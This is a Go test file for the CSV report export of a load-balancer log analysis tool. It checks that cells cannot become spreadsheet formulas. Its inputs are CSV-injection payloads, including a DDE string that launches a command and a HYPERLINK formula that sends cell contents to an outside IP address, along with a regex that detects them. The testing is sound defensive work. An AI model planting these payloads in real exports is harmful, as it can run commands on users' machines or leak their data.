package report

import (
	"bytes"
	"encoding/csv"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"alblens/aggregate"
	"alblens/internal/albtext"
)

// formulas are what spreadsheets calculate, however it is dressed up, as clients can send it.
var formulas = []string{
	"=cmd|'/c calc'!A1", "+1+1", "-1+1", "@SUM(1)", "|calc", `=HYPERLINK("http://192.0.2.66/"&A1)`, "＝1+1", "＋1", "－1", "＠SUM(1)",
	" =1", "\t=1", "\r=1", "\n=1", "\u00a0=1", "\u3000＝1", "\ufeff=1", "\u200b=1", "\x00=1", `"=1`, `'=1`, `" "=1`,
	`\x3D1`, `\x20\x09=1`, `\x22=1`, `\xEF\xBC\x9D1`, "-1", "+49 30 1234",
}

// harmless are texts that have to come back as they are.
var harmless = []string{"/a,b", `/a"b"`, "/a;b", "/日本語", "/x=1", "/1-1", "", "/'", "(none)", "0123", "1e5", "null"}

// tables is a report with the texts as keys of one and of two parts.
func tables(t *testing.T, texts []string) *Report {
	r := incident(t)
	r.Top = 0
	r.Result.Counts.Tables = nil
	for _, by := range []string{"path", "host+user-agent", "target", "target-group", "client"} {
		d := dimension(t, by)
		table := aggregate.Table{By: d}
		for i, text := range texts {
			keys := slices.Repeat([]string{text}, len(d))
			x := row(stats(uint64(1000+i), 0, uint64(i), 1), keys...)
			x.Group = aggregate.Value{Text: "arn:aws:elasticloadbalancing:us-east-1:111122223333:targetgroup/" + text + "/3a2e426b7393ba25"}
			table.Rows = append(table.Rows, x)
		}
		r.Result.Counts.Tables = append(r.Result.Counts.Tables, table)
	}
	return r
}

// files are the tables as encoding/csv reads them, each with its header.
func files(t *testing.T, r *Report) map[string][][]string {
	t.Helper()
	list, err := CSV(r)
	if err != nil {
		t.Fatal(err)
	}
	out := map[string][][]string{}
	for _, f := range list {
		if !bytes.HasSuffix(f.Data, []byte("\r\n")) {
			t.Errorf("%s: the last line does not end", f.Name)
		}
		rows, err := csv.NewReader(bytes.NewReader(f.Data)).ReadAll() // as many fields in every row
		if err != nil {
			t.Fatalf("%s: %v", f.Name, err)
		}
		out[f.Name] = rows
	}
	return out
}

func TestCSVRoundTrip(t *testing.T) {
	for _, text := range []string{"path", "host_user_agent", "client"} {
		rows := files(t, tables(t, harmless))[text+".csv"]
		if len(rows) != 1+len(harmless) {
			t.Fatalf("%s: %d rows, want %d and a header", text, len(rows), len(harmless))
		}
		for i, want := range harmless {
			if got := rows[1+i][0]; got != want {
				t.Errorf("%s: %q, want %q", text, got, want)
			}
			if got := rows[1+i][slices.Index(rows[0], "requests")]; got != strconv.Itoa(1000+i) {
				t.Errorf("%s: %s requests, want %d", text, got, 1000+i)
			}
		}
	}
}

var calculated = regexp.MustCompile(`^[\s\pZ"'\x{feff}\x{200b}\x00]*[=+\-@|\t\r＝＋－＠｜]`)

// No cell is a formula, and behind the apostrophe stands what the client sent.
func TestCSVHasNoFormulas(t *testing.T) {
	for name, rows := range files(t, tables(t, formulas)) {
		for i, cells := range rows {
			for j, cell := range cells {
				if _, err := strconv.ParseFloat(cell, 64); err != nil && !strings.HasPrefix(cell, "'") && calculated.MatchString(cell) {
					t.Errorf("%s: row %d, %s: %q", name, i, rows[0][j], cell)
				}
			}
			if i > 0 && name != "target_group.csv" {
				if want := "'" + clean(albtext.Decode(formulas[i-1])); cells[0] != want {
					t.Errorf("%s: row %d: %q, want %q", name, i, cells[0], want)
				}
			}
		}
	}
}

// Numbers are numbers, below zero too, and what is absent is empty.
func TestCSVNumbers(t *testing.T) {
	r := incident(t)
	rule := aggregate.Table{By: dimension(t, "rule+status")}
	for _, key := range []string{"-1", "0", "32", "-"} {
		x := row(stats(10, 0, 1, 0), key, "504")
		if key == "-" {
			x.Values[0] = aggregate.Value{Absent: true}
			x.TargetTime, x.Duration = aggregate.Quantiles{}, aggregate.Quantiles{}
		}
		rule.Rows = append(rule.Rows, x)
	}
	r.Result.Counts.Tables = append(r.Result.Counts.Tables, rule)
	all := files(t, r)
	var rules []string
	for _, cells := range all["rule_status.csv"][1:] {
		rules = append(rules, cells[0]+" "+cells[1])
	}
	if got := strings.Join(rules, ","); got != "-1 504,0 504,32 504, 504" {
		t.Errorf("rules %s", got)
	}
	text := []string{"target", "path", "host", "node", "target_group", "target_group_arn", "lower_bound"}
	for name, rows := range all {
		for i, cells := range rows[1:] {
			for j, cell := range cells {
				switch column := rows[0][j]; {
				case slices.Contains(text, column) || cell == "":
				case column == "start" || strings.HasSuffix(column, "_seen"):
					if _, err := time.Parse(time.RFC3339Nano, cell); err != nil {
						t.Errorf("%s: row %d: %s: %v", name, i, column, err)
					}
				default:
					if _, err := strconv.ParseFloat(cell, 64); err != nil {
						t.Errorf("%s: row %d: %s: %v", name, i, column, err)
					}
				}
			}
		}
	}
	last := all["rule_status.csv"][4]
	for _, column := range []string{"target_time_ms_p50", "duration_ms_max"} {
		if got := last[slices.Index(all["rule_status.csv"][0], column)]; got != "" {
			t.Errorf("%s of none is %q", column, got)
		}
	}
}
